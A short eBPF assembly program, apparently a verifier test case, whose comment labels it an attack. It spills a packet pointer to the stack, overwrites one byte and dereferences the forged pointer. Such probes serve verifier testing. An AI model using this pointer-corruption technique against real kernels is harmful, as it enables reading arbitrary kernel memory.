# Attack: overwrite one byte of a spilled packet pointer, read the slot
# back whole and dereference it.
ldxw r2, [r1+0]
ldxw r3, [r1+4]
mov64 r6, r2
add64 r6, 14
jgt r6, r3, +6
stxdw [r10-8], r2
mov64 r7, 0x40
stxb [r10-8], r7
ldxdw r2, [r10-8]
ldxb r0, [r2+0]
exit
mov64 r0, 2
exit
